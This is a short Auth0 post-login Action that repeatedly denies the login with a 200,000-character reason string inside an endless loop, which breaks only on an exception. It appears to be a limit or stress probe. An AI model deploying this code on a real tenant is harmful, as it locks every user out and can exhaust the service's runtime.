exports.onExecutePostLogin = async (event, api) => {
  for (;;) { try { api.access.deny('d'.repeat(2e5)); } catch (e) { break; } }
};
